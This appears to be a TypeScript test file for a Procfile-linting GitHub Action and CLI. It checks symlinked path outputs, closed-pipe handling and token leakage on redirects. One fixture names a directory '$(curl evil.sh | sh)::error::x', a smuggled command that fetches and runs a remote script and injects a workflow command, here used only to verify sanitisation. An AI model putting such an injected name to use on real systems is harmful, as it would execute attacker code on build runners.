/**
 * Outputs and errors that are safe to use, through the built action and the CLI: path outputs are the configured
 * path, not the name of a link's target; the CLI survives a reader that closes the pipe; the token never follows a
 * redirect to another server.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { eventEnv, webhookExample } from './helpers/events.js';
import { startFakeGitHub, type FakeGitHub } from './helpers/github-api.js';
import { REPO, runAction, runActionAsync } from './helpers/processes.js';
import { makeTree, removeTrees } from './helpers/tree.js';

const servers: FakeGitHub[] = [];

afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
  removeTrees();
});

describe('path outputs', () => {
  it('name the configured app path, normalised, not the link target whose name the pull request chose', () => {
    const workspace = makeTree({ '$(curl evil.sh | sh)::error::x/Procfile': 'worker: x\n' });
    fs.symlinkSync('$(curl evil.sh | sh)::error::x', path.join(workspace, 'app'));
    const run = runAction(workspace, { path: './app/', 'fail-on': 'never' });
    expect(run.outputs.procfile).toBe('app/Procfile');
    expect(run.stdout).toMatch(/^::error title=procfile-lint%3A missing-web,file=app\/Procfile,/m);
    expect(run.stdout).not.toContain('curl');
    expect(run.summary).toContain('Checked <code>app/Procfile</code>');
  });
});

describe('the CLI on a closed pipe', () => {
  it('stops quietly when the reader goes away, with its exit status and no stack trace', () => {
    const dir = makeTree({ Procfile: `${Array.from({ length: 5000 }, (_, i) => `w${i}:`).join('\n')}\n` });
    const cli = path.join(REPO, 'bin', 'procfile-lint.js');
    // Far more than a pipe buffer (64 KiB) of JSON, into `head`, which exits after 10 bytes.
    const script = `"${process.execPath}" "${cli}" --format json "$0" | head -c 10 > /dev/null; echo "status=\${PIPESTATUS[0]}" >&2`;
    const run = spawnSync('bash', ['-c', script, dir], { encoding: 'utf8', timeout: 20_000 });
    expect(run.stderr).toBe('status=1\n');
  }, 30_000);
});

describe('the token on a redirect', () => {
  it.each([
    ['listing the changed files (@actions/http-client)', { 'check-run': 'false' }],
    ['creating the check run (Octokit)', { 'check-run': 'true' }],
  ])(
    'is not sent to another server (another port of 127.0.0.1) when %s',
    async (_, inputs) => {
      const elsewhere = await startFakeGitHub();
      const api = await startFakeGitHub({ redirectTo: elsewhere.url });
      servers.push(elsewhere, api);
      const token = 'ghs_16C7e42F292c6912E7710c838347Ae178B4a';
      const env = { ...eventEnv('pull_request', webhookExample('pull_request', 'opened')), GITHUB_API_URL: api.url };
      const run = await runActionAsync(makeTree({ Procfile: 'web: x\n' }), { 'github-token': token, ...inputs }, env);
      expect(api.requests.length).toBeGreaterThan(0);
      expect(
        api.requests.every((request) => request.authorization === `token ${token}` || request.authorization === `Bearer ${token}`),
      ).toBe(true);
      expect(elsewhere.requests.map((request) => request.authorization)).toEqual(elsewhere.requests.map(() => undefined));
      expect(elsewhere.requests).toEqual([]);
      expect(run.status).toBe(0);
      expect(run.summary).toContain('Unknown whether it changes the Procfile');
    },
    60_000,
  );
});
